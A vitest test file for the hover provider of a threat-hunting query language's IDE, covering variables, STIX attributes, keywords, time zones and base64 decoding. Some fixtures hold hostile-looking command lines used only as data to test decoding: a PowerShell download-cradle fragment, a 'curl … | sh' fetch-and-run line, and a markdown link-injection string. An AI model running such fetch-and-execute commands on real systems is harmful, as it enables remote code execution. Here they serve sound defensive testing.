import { describe, expect, test } from 'vitest';
import type { IdeProviders } from '../../../../language/ide/providers.js';
import type { VariableFacts } from '../../../../language/variable-facts.js';
import { openHuntflow } from '../../../kit/language.js';

const facts: VariableFacts = {
  name: 'p',
  type: 'process',
  kind: 'entities',
  entities: 34,
  records: 1350,
  related: { 'network-traffic': 350, file: 0 },
  attributes: [
    { path: 'name', entities: 34 },
    { path: 'parent_ref.name', entities: 12 },
  ],
  birthCommand: "p = NEW process ['a']",
  sources: [],
  setAt: Date.UTC(2024, 4, 6, 11, 55),
};

const world: Partial<IdeProviders> = {
  variables: { of: () => [facts] },
  dataSources: { dataSources: () => [{ uri: 'stixshifter://host101', detail: 'elastic_ecs' }] },
  fields: { fields: (type, attribute) => (attribute === 'parent_ref.name' ? [`${type}.parent.name`] : []) },
  clock: { now: () => Date.UTC(2024, 4, 6, 12), timeZone: 'Europe/Berlin' },
};

/** The hover text where `<|>` is; empty where there is none. */
async function hover(text: string, providers = world): Promise<string> {
  const offset = text.indexOf('<|>');
  const { services, document } = await openHuntflow(text.replace('<|>', ''), providers);
  const answer = await services.lsp.HoverProvider?.getHoverContent(document, {
    textDocument: { uri: document.uri.toString() },
    position: document.textDocument.positionAt(offset),
  });
  const contents = answer?.contents;
  return typeof contents === 'object' && 'value' in contents ? contents.value : '';
}

describe('variables', () => {
  test('what the last run left, how old it is, and the statement', async () => {
    const text = await hover("p = NEW process ['a']\nDISP <|>p");
    expect(text).toContain('**p** — process');
    expect(text).toContain('34 entities, 1,350 records');
    expect(text).toContain('Related records: network\\-traffic 350');
    expect(text).toContain('`name` 34, `parent_ref.name` 12');
    expect(text).toContain('Set 5 minutes ago.');
    expect(text).toContain("```kestrel\np = NEW process ['a']\n```");
  });

  test('the definition that is meant, where the last run set it elsewhere', async () => {
    const text = await hover("p = NEW process ['a']\n<|>p = p WHERE pid = 1");
    expect(text).toContain('p = p WHERE pid = 1');
    expect(text).toContain("by another statement: `p = NEW process ['a']`");
  });

  test('before a run', async () => {
    const text = await hover('q = FIND file LOADED BY p\nINFO <|>q', {});
    expect(text).toContain('**q** — file');
    expect(text).toContain('Not run yet.');
  });

  test('unknown: nothing', async () => {
    expect(await hover('INFO <|>z')).toBe('');
  });
});

describe('attributes', () => {
  test('meaning, section, example, and how many have it', async () => {
    const text = await hover("p = NEW process ['a']\nDISP p ATTR <|>name");
    expect(text).toContain('`name` — string of process');
    expect(text).toContain('34 of 34 entities of p have it.');
    expect(text).toContain('STIX 2.1, section 6.13');
  });

  test('of a path the part under the mouse, with the fields that it comes from', async () => {
    const path = "p = NEW process ['a']\nDISP p ATTR parent_ref.name";
    expect(await hover(path.replace('ref.', 'ref.<|>'))).toContain('In logs: `process.parent.name`');
    expect(await hover(path.replace('parent', '<|>parent'))).toContain('`parent_ref` — reference to process');
  });

  test('that records have, and names in objects of NEW', async () => {
    const text = await hover("p = NEW process ['a']\nDISP TIMESTAMPED(p) ATTR <|>first_observed");
    expect(text).toContain('When the record begins.');
    expect(await hover('p = NEW process [{"<|>command_line": "a"}]')).toContain('`command_line` — string');
  });

  test('the range is the part of the path that is spoken of', async () => {
    const at = async (marked: string): Promise<string> => {
      const offset = marked.indexOf('<|>');
      const { services, document } = await openHuntflow(marked.replace('<|>', ''), world);
      const answer = await services.lsp.HoverProvider?.getHoverContent(document, {
        textDocument: { uri: document.uri.toString() },
        position: document.textDocument.positionAt(offset),
      });
      return document.textDocument.getText(answer?.range);
    };
    const given = "# 🕵\r\np = NEW process ['a'] x = p WHERE ";
    expect(await at(`${given}parent<|>_ref.name = 1`)).toBe('parent_ref');
    expect(await at(`${given}parent_ref.na<|>me = 1`)).toBe('parent_ref.name');
    expect(await at(`${given}[pro<|>cess:name = 1]`)).toBe('process');
    expect(await at(`${given}[process:na<|>me = 1]`)).toBe('process:name');
  });

  test('of another entity in the record', async () => {
    const text = 'x = GET process FROM s WHERE ipv4-addr:value = 1';
    expect(await hover(text.replace(':value', ':<|>value'))).toContain('of ipv4-addr');
    expect(await hover(text.replace('ipv4', '<|>ipv4'))).toContain('**ipv4-addr** — entity type');
  });

  test.each([
    // STIX 2.1, 6.12
    ['x = GET network-traffic FROM s WHERE <|>src_byte_count > 9', '— integer (bytes) of network-traffic'],
    [
      'p = NEW process ["a"]\nn = FIND network-traffic CREATED BY p\nj = JOIN p, n BY pid, <|>src_port',
      'of network-traffic',
    ],
    ['p = NEW [{"type": "file", <|>"name": "a"}]', 'of file'],
  ])('of %s', async (text, expected) => {
    expect(await hover(text)).toContain(expected);
  });

  test('of a referred variable', async () => {
    expect(await hover("p = NEW process ['a']\nx = GET file FROM s WHERE name = p.<|>pid")).toContain(
      'of process',
    );
  });
});

describe('words of the language', () => {
  test.each([
    ['<|>DISP p', '**DISP** — '],
    ['disp p <|>attr pid', '**ATTR** — '],
    ['disp p <|>sort by pid', 'SORT BY pid ASC'],
    ["p = NEW process ['a']\nx = FIND file <|>LOADED BY p", 'found = FIND file LOADED BY p'],
    ['x = GET <|>process FROM s WHERE pid > 0', '**process** — entity type'],
    ["x = y WHERE name NOT <|>LIKE 'a'", '**NOT LIKE** — '],
    ['x = y WHERE name <|>IS NOT NULL', '**IS NOT NULL** — '],
    ['x = y WHERE name <|>IS NULL', '**IS NULL** — '],
    [
      "p = NEW process ['a']\nx = FIND file <|>LOADED BY p",
      'file entities that were loaded by the process entities',
    ],
    ['x = GROUP y BY z WITH <|>COUNT(*)', '**COUNT** — '],
    ['x = GET process FROM <|>stixshifter://host101 WHERE pid > 0', 'elastic\\_ecs'],
  ])('%s', async (text, expected) => {
    expect(await hover(text)).toContain(expected);
  });
});

describe('times and strings', () => {
  test('a time in a pattern', async () => {
    for (const literal of ["t'2021-04-01T00:00:00Z'", "'2021-04-01T00:00:00Z'"])
      expect(await hover(`x = GET file FROM s WHERE ctime > <|>${literal}`)).toContain('02:00:00');
  });

  test("a time in the user's zone", async () => {
    const text = await hover("x = GET process FROM s WHERE pid > 0 START <|>t'2024-05-06T10:00:00Z'");
    expect(text).toContain('Monday');
    expect(text).toContain('12:00:00');
    expect(text).toContain('2024-05-06T10:00:00.000Z (UTC)');
    expect(text).toContain('2 hours ago');
  });

  test('a time to come has no age', async () => {
    const text = await hover("x = GET process FROM s WHERE pid > 0 START <|>t'2030-01-01T00:00:00Z'");
    expect(await hover("x = GET process FROM s WHERE pid > 0 START <|>t'2024-05-06T12:00:00Z'")).toMatch(
      /\(UTC\)\n\njust now$/,
    );
    // 1 January 2030 is a Tuesday.
    expect(text).toBe('Tuesday, 1 January 2030 at 01:00:00 CET\n\n2030-01-01T00:00:00.000Z (UTC)');
  });

  test('three texts of many are decoded', async () => {
    const texts = ['the first text', 'the second text', 'the third text', 'the fourth text'];
    const text = await hover(`x = y WHERE command_line = '<|>${texts.map(btoa).join(' ')}'`);
    expect(texts.filter((one) => text.includes(one))).toEqual(texts.slice(0, 3));
  });

  test('encoded PowerShell and base64 are decoded', async () => {
    const powershell = Buffer.from('IEX (New-Object Net.WebClient)', 'utf16le').toString('base64');
    expect(await hover(`x = y WHERE command_line = '<|>powershell -enc ${powershell}'`)).toContain(
      'IEX (New-Object Net.WebClient)',
    );
    const plainText = Buffer.from('curl http://example.com/x | sh').toString('base64');
    expect(await hover(`x = y WHERE command_line LIKE '<|>${plainText}'`)).toContain(
      'curl http://example.com/x | sh',
    );
  });

  test.each([
    'C:/Windows/System32/svchost',
    'abcdefghijklmnopqrstuvwxyz',
    'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA',
    // `ping 127.0.0.1` in UTF-16 with the high byte first, which PowerShell does not take.
    Buffer.from('ping 127.0.0.1', 'utf16le').swap16().toString('base64'),
  ])('what is no base64 is left alone: %s', async (value) => {
    expect(await hover(`x = y WHERE command_line = '<|>${value}'`)).toBe('');
  });

  test('ticks in a string cannot leave the code block', async () => {
    const hidden = Buffer.from('```\n[click](http://evil)\n').toString('base64');
    expect(await hover(`x = y WHERE command_line = '<|>${hidden}'`)).toContain('````text\n```');
  });
});

test('a relation whose statement is broken off has its meaning, too', async () => {
  expect(await hover("p = NEW process ['a']\nq = FIND process CRE<|>ATED\nDISP p")).toMatch(
    /^\*\*CREATED\*\* — /,
  );
});
